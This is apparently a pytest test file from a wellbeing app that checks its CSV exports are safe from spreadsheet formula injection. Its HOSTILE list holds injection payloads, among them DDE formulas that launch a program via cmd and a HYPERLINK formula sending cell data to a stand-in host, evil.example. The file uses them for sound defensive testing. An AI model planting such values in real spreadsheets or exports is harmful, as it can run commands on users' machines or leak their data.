"""A17: whatever a group, a workshop or a place is called, no spreadsheet of ours runs it or parts it in two."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import select, update

from tests.cast import Cast
from tests.journal.record import note_mood
from wellbeing.db import db, transaction
from wellbeing.models.group import Group
from wellbeing.models.headcount import Headcount
from wellbeing.models.workshop import Workshop

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", '"=1+1', 'Danse","=1+1',
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Voir")', '=DDE("cmd";"/C calc";"x")', "Danse;=cmd|' /C calc'!A0",
    "Danse\n=1+1", "Danse\r\n@SUM(A1)", "\u200b=1+1", "\ufeff=1+1", "\uff1d1+1", "  =1+1",
]  # fmt: skip
RUN = re.compile('^[\\s\\x00\\u200b\\ufeff"]*[=+\\-@\uff1d\uff0b\uff0d\uff20]')
NUMBER = re.compile(r"-?\d+(\.\d+)?")
DATE = re.compile(r"\d{4}-\d\d-\d\d.*")


def sheets(cast: Cast) -> dict[str, str]:
    """Every address that ends with `.csv`, and what it holds for who may read it. A new one is found by its rule."""
    found = {}
    for rule in cast.app.url_map.iter_rules():
        if rule.rule.endswith(".csv"):
            who = "Fay" if rule.arguments else "Ana"
            address = rule.rule.replace("<uid>", cast.groups["Willow"].uid)
            answer = (cast.browser(who) if rule.arguments else cast.fresh(who)).get(address)
            assert answer.status_code == 200, rule.rule
            assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
            found[rule.rule] = answer.get_data().decode("utf-8")
    return found


def safe(text: str) -> list[list[str]]:
    """The cells, strictly read; raises AssertionError for one that could be run, with commas or with semicolons."""
    assert text.endswith("\r\n")
    lines = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(line) for line in lines}) == 1, "a row has another number of cells"
    cells = [cell for line in lines for cell in line]
    for cell in cells:
        parts = re.split("[;\t\r\n]", cell)
        ran = [part for part in parts if RUN.match(part) and not NUMBER.fullmatch(cell) and not DATE.fullmatch(cell)]
        assert ran == [], f"{cell!r} could be run"
    return lines


def test_no_name_is_run_by_any_spreadsheet_of_ours(cast: Cast) -> None:
    note_mood(cast, "Ana", 4)
    before = sheets(cast)
    assert len(before) == 3
    with cast.app.app_context(), transaction():
        of_willow = select(Workshop.id).where(Workshop.group_id == cast.groups["Willow"].id).limit(1)
        [meeting] = db.session.scalars(of_willow)
        whose, four = {"group_id": cast.groups["Willow"].id}, {"present": 4, "without_phone": 0, "newcomers": 0}
        db.session.add(Headcount(workshop_id=meeting, counted_at=cast.now, **whose, **four))
    for name in HOSTILE:
        if "\x00" in name and not cast.app.config["LE_FIL"].database_url.startswith("sqlite"):
            name = name.replace("\x00", "\x01")  # PostgreSQL keeps no NUL in a text
        called(cast, name)
        after = sheets(cast)
        titles = [line[-1] for line in safe(after["/groups/<uid>/report.csv"])[1:] if line[-1]]
        assert titles, "the name is in no cell: nothing was tried"
        assert {title.replace("'", "") for title in titles} == {name.replace("'", "")}
        for rule, text in after.items():
            safe(text)
            if rule != "/groups/<uid>/report.csv":
                assert text == before[rule], "no name is in it at all"


def called(cast: Cast, name: str) -> None:
    """Willow, its place, its contact and its dates, which are over, are called so."""
    with cast.app.app_context(), transaction():
        willow, day = cast.groups["Willow"].id, timedelta(days=2)
        db.session.execute(update(Group).where(Group.id == willow).values(name=name, place=name, safety_contact=name))
        past = {"starts_at": cast.now - day, "local_date": cast.now.date() - day}
        db.session.execute(update(Workshop).where(Workshop.group_id == willow).values(title=name, **past))


def test_a_cell_that_is_run_would_be_seen() -> None:
    for title in ("=1+1", "Danse;=1", "\t@x", "\ufeff-cmd"):
        with pytest.raises(AssertionError, match="could be run"):
            safe(f'a,b\r\n1,"{title}"\r\n')
